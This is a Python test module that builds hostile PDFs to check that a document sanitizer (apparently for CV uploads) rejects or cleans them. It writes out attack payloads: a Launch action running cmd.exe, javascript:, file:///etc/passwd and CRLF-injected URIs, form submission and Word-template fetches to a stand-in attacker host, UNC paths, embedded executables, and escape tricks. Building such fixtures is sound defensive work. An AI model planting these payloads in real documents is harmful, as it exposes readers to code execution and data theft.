"""Files made to harm, with what must become of each; honest ones stand in `files_honest`.

Nothing here comes from elsewhere: each file is written by the functions below.
"""

import io
from collections.abc import Callable
from dataclasses import dataclass, field

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile.files_parts import TEXT, make_paper, on_page, raw_pdf, text_stream

PROGRAM = "programme ou action automatique"
ATTACHED = "fichier joint"
MEDIA = "son, film ou objet en trois dimensions"
LINK = "lien vers autre chose qu’une page web"


@dataclass(frozen=True)
class Case:
    """A file and its verdict: `refused` is part of the sentence, else it is taken and `left_out` is what is told.

    `as_received`: the copy to read is the file itself.
    """

    content: bytes
    left_out: str = ""
    refused: str = ""
    name: str = "cv.pdf"
    pages: int = 1
    text: str = TEXT
    as_received: bool = False
    holds: tuple[bytes, ...] = field(default=())  # what the copy must show, beside the text


def _action(kind: str, **more) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def _address(text: str) -> Dictionary:
    return _action("URI", URI=text)


UNC = "\\\\intrus\\partage\\a.pdf"
# Every type of action (ISO 32000-1, table 198; ISO 32000-2 adds the last), and addresses that lead off the web.
ACTIONS: dict[str, tuple[Callable[[], Dictionary], str]] = {
    "JavaScript": (lambda: _action("JavaScript", JS="app.alert(1)"), PROGRAM),
    "Launch": (lambda: _action("Launch", F="cmd.exe", Win=Dictionary(F="cmd.exe", P="/c calc")), LINK),
    "GoToR to a UNC path": (lambda: _action("GoToR", F=UNC, D=Array([0, Name.Fit])), LINK),
    "GoToE": (lambda: _action("GoToE", D=Array([0, Name.Fit]), T=Dictionary(R=Name.C, N="joint.pdf")), LINK),
    "SubmitForm": (lambda: _action("SubmitForm", F=Dictionary(FS=Name.URL, F="http://intrus.example/")), PROGRAM),
    "ResetForm": (lambda: _action("ResetForm"), PROGRAM),
    "ImportData": (lambda: _action("ImportData", F=UNC), PROGRAM),
    "Hide": (lambda: _action("Hide", T="champ"), PROGRAM),
    "Named": (lambda: _action("Named", N=Name.Print), PROGRAM),
    "SetOCGState": (lambda: _action("SetOCGState", State=Array([Name.OFF])), PROGRAM),
    "Rendition": (lambda: _action("Rendition", OP=0, JS="app.alert(1)"), PROGRAM),
    "Sound": (lambda: _action("Sound"), PROGRAM),
    "Movie": (lambda: _action("Movie", T="film"), PROGRAM),
    "Trans": (lambda: _action("Trans", Trans=Dictionary(S=Name.Fly)), PROGRAM),
    "GoTo3DView": (lambda: _action("GoTo3DView"), LINK),
    "Thread": (lambda: _action("Thread", F=UNC, D=0), LINK),
    "RichMediaExecute": (lambda: _action("RichMediaExecute", CMD=Dictionary(C="play")), PROGRAM),
    "GoToDp": (lambda: _action("GoToDp"), PROGRAM),
    "of no known type": (lambda: _action("Surprise", JS="app.alert(1)"), PROGRAM),
    "URI javascript:": (lambda: _address("javascript:alert(1)"), LINK),
    "URI JaVaScRiPt: after blanks": (lambda: _address(" \tJaVaScRiPt:alert(1)"), LINK),
    "URI file:": (lambda: _address("file:///etc/passwd"), LINK),
    "URI data:": (lambda: _address("data:text/html,<script>alert(1)</script>"), LINK),
    "URI smb:": (lambda: _address("smb://intrus/partage"), LINK),
    "URI UNC": (lambda: _address(UNC), LINK),
    "URI http with a backslash": (lambda: _address("http:\\\\intrus\\partage"), LINK),
    "URI without a scheme": (lambda: _address("../../programme.exe"), LINK),
    "URI with a line break": (lambda: _address("https://a.example/\r\nX: y"), LINK),
    "URI mailto: that attaches a file": (lambda: _address("mailto:a@a.example?attach=file:///etc/passwd"), LINK),
    "URI ms-word:": (lambda: _address("ms-word:ofe|u|http://intrus.example/a.docm"), LINK),
}  # fmt: skip


def _opening(action: Dictionary) -> bytes:
    return make_paper(lambda pdf: pdf.Root.__setattr__("OpenAction", action))


def _clicked(action: Dictionary) -> bytes:
    return make_paper(on_page(Subtype=Name.Link, A=action))


def _attached(name: str, body: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[name] = body

    return change


def _file(pdf: pikepdf.Pdf, body: bytes = b"MZ\x90\0") -> Dictionary:
    stream = pdf.make_stream(body, Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F="a.exe", UF="a.exe", EF=Dictionary(F=stream)))


def _tied_to_document(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AF = Array([_file(pdf)])


def _tied_to_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AF = Array([_file(pdf)])


def _annotation(subtype: str, **more) -> bytes:
    return make_paper(on_page(Subtype=Name(f"/{subtype}"), **more))


def _with_file(key: str, subtype: str) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        on_page(Subtype=Name(f"/{subtype}"), **{key: _file(pdf)})(pdf)

    return make_paper(change)


def _bookmark(action: Dictionary) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        item = pdf.make_indirect(Dictionary(Title="Signet", A=action))
        top = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
        item.Parent = top
        pdf.Root.Outlines = top

    return make_paper(change)


def _named_script(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(_action("JavaScript", JS="app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))


def _field(**more) -> Callable[[pikepdf.Pdf], None]:
    """A text field filled in, drawn, with more keys."""

    def change(pdf: pikepdf.Pdf) -> None:
        look = pdf.make_stream(
            b"BT /F1 12 Tf 2 4 Td (reponse) Tj ET", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 200, 20]),
            Resources=Dictionary(Font=Dictionary(F1=pdf.pages[0].Resources.Font.F1)),
        )  # fmt: skip
        widget = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="champ", V="reponse", F=4,
                Rect=Array([72, 500, 272, 520]), AP=Dictionary(N=look), **more,
            )
        )  # fmt: skip
        pdf.pages[0].Annots = pdf.make_indirect(Array([widget]))
        pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))

    return change


def _static_xfa(pdf: pikepdf.Pdf) -> None:
    _field()(pdf)
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp><script contentType='application/x-javascript'>x()</script></xdp>")


def _dynamic_xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    pdf.Root.NeedsRendering = True


def _orders(pdf: pikepdf.Pdf) -> None:
    _field()(pdf)
    pdf.Root.AcroForm.CO = Array([pdf.Root.AcroForm.Fields[0]])


def _page_key(**more) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in more.items():
            pdf.pages[0].obj[f"/{key}"] = value

    return make_paper(change)


def _root_key(**more) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in more.items():
            pdf.Root[f"/{key}"] = value

    return make_paper(change)


def _drawing(change: Callable[[pikepdf.Pdf, pikepdf.Stream], None]) -> bytes:
    """A picture on the page, after `change` was done to it."""

    def add(pdf: pikepdf.Pdf) -> None:
        picture = pdf.make_stream(
            bytes(12), Type=Name.XObject, Subtype=Name.Image, Width=2, Height=2, ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
        )  # fmt: skip
        change(pdf, picture)
        pdf.pages[0].Resources.XObject = Dictionary(Im0=picture)
        pdf.pages[0].Contents = pdf.make_stream(text_stream() + b" q 9 0 0 9 0 0 cm /Im0 Do Q")

    return make_paper(add)


def _escaped() -> bytes:
    return raw_pdf(b"/OpenAction<</S/Java#53cript/J#53(app.alert\\(1\\))>>")


def _in_object_stream(action: Dictionary) -> bytes:
    return make_paper(
        lambda pdf: pdf.Root.__setattr__("OpenAction", pdf.make_indirect(action)),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


def _updated() -> bytes:
    """A paper, then a revision of its catalogue that does something."""
    first = make_paper()
    with pikepdf.open(io.BytesIO(first)) as pdf:
        number, pages = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0]
        size = int(pdf.trailer.Size)
    start = len(first) + 1
    added = b"\n%d 0 obj\n<</Type/Catalog/Pages %d 0 R/OpenAction<</S/JavaScript/JS(x)>>>>\nendobj\n" % (number, pages)
    table = len(first) + len(added)
    former = int(first.rpartition(b"startxref")[2].split()[0])
    return (
        first
        + added
        + (
            b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
            % (number, start, size, number, former, table)
        )
    )


def active() -> dict[str, Case]:
    """PDFs that do something, carry something or lead somewhere: taken, and the copy holds none of it."""
    script, trigger = ACTIONS["JavaScript"][0], Dictionary(O=ACTIONS["Launch"][0]())
    media = {
        "RichMedia": _annotation("RichMedia", RichMediaContent=Dictionary(), RichMediaSettings=Dictionary()),
        "3D with a script": _annotation("3D", **{"3DD": Dictionary(Type=Name("/3D"), OnInstantiate="x()")}),
        "Screen": _annotation("Screen", A=ACTIONS["Rendition"][0](), AA=Dictionary(PO=script())),
        "Movie": _annotation("Movie", Movie=Dictionary(F=UNC)),
        "Sound": _annotation("Sound", Sound=Dictionary()),
    }
    return (
        _in_places(script, trigger)
        | _in_carriers(script)
        | {f"on opening: {name}": Case(_opening(make()), words) for name, (make, words) in ACTIONS.items()}
        | {f"on a click: {name}": Case(_clicked(make()), words) for name, (make, words) in ACTIONS.items()}
        | {f"bookmark: {name}": Case(_bookmark(ACTIONS[name][0]()), ACTIONS[name][1]) for name in list(ACTIONS)[:3]}
        | {f"annotation: {name}": Case(content, f"{PROGRAM}, {MEDIA}" if name == "Screen" else MEDIA)
           for name, content in media.items()}
    )  # fmt: skip


def _in_places(script: Callable[[], Dictionary], trigger: Dictionary) -> dict[str, Case]:
    """A program in each place that may hold one, and files attached in each way."""
    return {
        "event of the page": Case(_page_key(AA=trigger), PROGRAM),
        "event of the document": Case(_root_key(AA=Dictionary(WC=script())), PROGRAM),
        "event of an annotation": Case(_annotation("Highlight", AA=Dictionary(E=script())), PROGRAM),
        "action of a note": Case(_annotation("Text", A=script()), PROGRAM),
        "event of a field": Case(make_paper(_field(AA=Dictionary(K=script()))), PROGRAM, text=f"{TEXT}reponse"),
        "action of a field": Case(make_paper(_field(A=ACTIONS["SubmitForm"][0]())), PROGRAM, text=f"{TEXT}reponse"),
        "order of calculation": Case(make_paper(_orders), text=f"{TEXT}reponse"),
        "chain of actions": Case(
            _clicked(_action("URI", URI="https://exemple.example/", Next=script())), PROGRAM,
            holds=(b"https://exemple.example/",),
        ),
        "script of the names": Case(make_paper(_named_script), PROGRAM),
        "program attached": Case(make_paper(_attached("a.exe", b"MZ\x90\0")), ATTACHED),
        "macros attached": Case(make_paper(_attached("a.docm", b"PK\x03\x04")), ATTACHED),
        "page attached": Case(make_paper(_attached("a.html", b"<script>x()</script>")), ATTACHED),
        "file pinned on the page": Case(_with_file("FS", "FileAttachment"), ATTACHED),
        "file tied to the document": Case(make_paper(_tied_to_document), ATTACHED),
        "file tied to the page": Case(make_paper(_tied_to_page), ATTACHED),
    }  # fmt: skip


def _in_carriers(script: Callable[[], Dictionary]) -> dict[str, Case]:
    """The same behind forms, names, streams, updates and keys that the norm does not know."""
    return {
        "static XFA with a script": Case(make_paper(_static_xfa), "formulaire XFA", text=f"{TEXT}reponse"),
        "dynamic XFA": Case(make_paper(_dynamic_xfa), refused="imprimez-le en PDF"),
        "portfolio": Case(_root_key(Collection=Dictionary(View=Name.D)), refused="porte-documents"),
        "name with escapes": Case(_escaped(), PROGRAM, text=""),
        "hidden in an object stream": Case(_in_object_stream(script()), PROGRAM),
        "launch in an object stream": Case(_in_object_stream(ACTIONS["Launch"][0]()), LINK),
        "added by an update": Case(_updated(), PROGRAM),
        "base of addresses": Case(_root_key(URI=Dictionary(Base="file:///"))),
        "requirements": Case(_root_key(Requirements=Array([Dictionary(S=Name.EnableJavaScripts)]))),
        "unknown key of the document": Case(_root_key(Surprise=script())),
        "unknown key of the page": Case(_page_key(Surprise=script())),
        "script kept by a program": Case(_page_key(PieceInfo=Dictionary(Tool=Dictionary(Private=script())))),
        "picture kept in another file": Case(
            _drawing(lambda pdf, picture: picture.stream_dict.__setattr__("F", UNC)), ATTACHED),
        "picture with another picture": Case(
            _drawing(lambda pdf, picture: picture.stream_dict.__setattr__("OPI", Dictionary(F=UNC)))),
        "PostScript drawing": Case(
            _drawing(lambda pdf, picture: picture.stream_dict.__setattr__("Subtype", Name.PS)), PROGRAM),
        "drawing from another file": Case(_drawing(_reference), ""),
        "unknown kind of annotation": Case(_annotation("Surprise", A=script()), PROGRAM),
    }  # fmt: skip


def _reference(pdf: pikepdf.Pdf, picture: pikepdf.Stream) -> None:
    picture.stream_dict.Subtype = Name.Form
    picture.stream_dict.BBox = Array([0, 0, 9, 9])
    picture.stream_dict.Ref = Dictionary(F=UNC, Page=0)
    picture.write(b"0 0 m 9 9 l S")
